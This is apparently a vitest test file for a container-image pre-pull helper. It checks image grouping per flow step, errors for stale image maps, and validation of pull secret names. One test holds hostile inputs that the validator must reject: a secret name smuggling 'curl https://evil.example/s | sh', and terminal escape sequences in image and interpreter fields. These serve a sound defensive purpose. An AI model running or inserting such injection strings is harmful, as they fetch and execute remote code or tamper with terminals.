import { describe, expect, it } from 'vitest';
import { InputError, type ImageMap } from '@prebuilt/core';
import { prepullImages, prepullPullSecrets } from './prepull-images.js';

const D = `sha256:${'d'.repeat(64)}`;
const map: ImageMap = {
  flow: 'F',
  images: {
    x: { image: 'r/x:env-x', digest: D, pinnedImage: `r/x:env-x@${D}`, python: '/opt/prebuilt/env/bin/python', status: 'present', steps: ['start', 'join_all'], pullConfig: { kubernetes: { imagePullSecrets: ['pull-a'] } } },
    y: { image: 'r/x:env-y', digest: D, pinnedImage: `r/x:env-y@${D}`, python: '/opt/prebuilt/env/bin/python', status: 'built', steps: ['gone'], pullConfig: { kubernetes: { imagePullSecrets: ['pull-old'] } } },
  },
  steps: {
    start: { envId: 'x', image: 'r/x:env-x', pinnedImage: `r/x:env-x@${D}`, python: '/opt/prebuilt/env/bin/python' },
    plain: { envId: null, image: 'python:3.11-slim', python: 'python' },
    join_all: { envId: 'x', image: 'r/x:env-x', pinnedImage: `r/x:env-x@${D}`, python: '/opt/prebuilt/env/bin/python' },
    gone: { envId: 'y', image: 'r/x:env-y', pinnedImage: `r/x:env-y@${D}`, python: '/opt/prebuilt/env/bin/python' },
  },
};

describe('prepullImages / prepullPullSecrets', () => {
  it('one entry per distinct pinned image of the flow\'s steps (a disabled step: its base image), named after its first step', () => {
    expect(prepullImages(map, ['start', 'plain', 'join_all'], 'flow.py')).toEqual([
      { image: `r/x:env-x@${D}`, steps: ['start', 'join_all'], python: '/opt/prebuilt/env/bin/python', container: 'pull-1-start' },
      { image: 'python:3.11-slim', steps: ['plain'], python: 'python', container: 'pull-2-plain' },
    ]);
  });

  it('a step of the flow the map lacks (a stale map) is an InputError (exit 2) saying to build first', () => {
    const error = (() => {
      try {
        return prepullImages(map, ['start', 'new_step', 'other'], 'flow.py');
      } catch (e) {
        return e;
      }
    })();
    expect(error).toBeInstanceOf(InputError);
    expect((error as InputError).exitCode).toBe(2);
    expect((error as InputError).message).toContain('no image for steps new_step, other');
    // A local `prebuilt run` writes the map of the steps that run remotely alone: a step that runs locally has no image in it.
    expect((error as InputError).message).toContain('or `prebuilt run` wrote the map, with the images of the steps that run remotely alone.');
    expect((error as InputError).hint).toBe("Run `prebuilt build flow.py` first (it builds every step's image).");
  });

  it('the pull secrets are those of the used images\' pull config, then the extra ones, once each', () => {
    const images = prepullImages(map, ['start', 'plain'], 'flow.py');
    expect(prepullPullSecrets(map, images, ['pull-b', 'pull-a'], 'flow.py')).toEqual(['pull-a', 'pull-b']);
    expect(prepullPullSecrets({ ...map, images: {} }, images, [], 'flow.py')).toEqual([]);
    expect(() => prepullPullSecrets(map, images, ['Not A Name'], 'flow.py')).toThrow(/--pull-secret Not A Name is not a Kubernetes secret name/);
  });

  it('an image map (a cloned repository\'s, a shared file) naming an image, interpreter or pull secret that is not one is an InputError (exit 2) naming the step or secret, before anything reaches the cluster', () => {
    const thrown = (run: () => unknown): InputError => {
      try {
        run();
      } catch (error) {
        expect(error).toBeInstanceOf(InputError);
        expect((error as InputError).exitCode).toBe(2);
        expect((error as InputError).hint).toBe('Run `prebuilt build flow.py` again to rewrite it.');
        return error as InputError;
      }
      throw new Error('no error');
    };
    const step = (entry: Record<string, unknown>): ImageMap => ({ ...map, steps: { ...map.steps, start: { ...map.steps['start']!, ...entry } as ImageMap['steps'][string] } });
    expect(thrown(() => prepullImages(step({ pinnedImage: 'r/x:env-x\n\x1b[2Jall good' }), ['start'], 'flow.py')).message).toBe(
      "The image map of F names an image for step start that is not an image reference ('r/x:env-x\\n\\x1b[2Jall good': it contains whitespace).",
    );
    expect(thrown(() => prepullImages(step({ pinnedImage: { x: 1 } }), ['start'], 'flow.py')).message).toBe('The image map of F names an image for step start that is not an image reference (not a string).');
    expect(thrown(() => prepullImages(step({ python: 5 }), ['start'], 'flow.py')).message).toBe('The image map of F names no interpreter path for step start (not a string).');
    expect(thrown(() => prepullImages(step({ python: '/bin/sh\x1b]52;c;x\x07' }), ['start'], 'flow.py')).message).toBe("The image map of F names no interpreter path for step start ('/bin/sh\\x1b]52;c;x\\x07' holds control characters).");
    expect(thrown(() => prepullImages({ ...map, flow: 5 as unknown as string }, ['start'], 'flow.py')).message).toBe('The image map names no flow (its flow is not a string).');
    // A pull secret name goes into the suggested `prebuilt pull-secret --name …` command: one a shell would read as more is refused.
    const images = prepullImages(map, ['start'], 'flow.py');
    const secrets = (names: unknown[]): ImageMap => ({ ...map, images: { ...map.images, x: { ...map.images['x']!, pullConfig: { kubernetes: { imagePullSecrets: names as string[] } } } } });
    expect(thrown(() => prepullPullSecrets(secrets(['ok', 'x; curl https://evil.example/s | sh']), images, [], 'flow.py')).message).toBe(
      "The image map of F names the pull secret 'x; curl https://evil.example/s | sh', which is not a Kubernetes secret name.",
    );
    expect(thrown(() => prepullPullSecrets(secrets([7]), images, [], 'flow.py')).message).toBe("The image map of F names the pull secret '7', which is not a Kubernetes secret name.");
  });
});
